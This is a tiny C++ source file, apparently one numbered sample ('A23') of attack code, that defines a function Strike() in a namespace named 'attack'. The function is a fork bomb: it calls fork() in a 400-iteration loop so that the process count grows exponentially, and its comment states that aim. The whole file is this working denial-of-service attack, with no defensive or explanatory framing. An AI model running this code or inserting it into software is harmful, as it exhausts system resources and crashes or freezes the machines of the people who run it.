// A23: as many processes as there can be, and each makes more.

#include <unistd.h>

namespace attack {

void Strike() {
  for (int i = 0; i < 400; ++i) fork();
}

}  // namespace attack
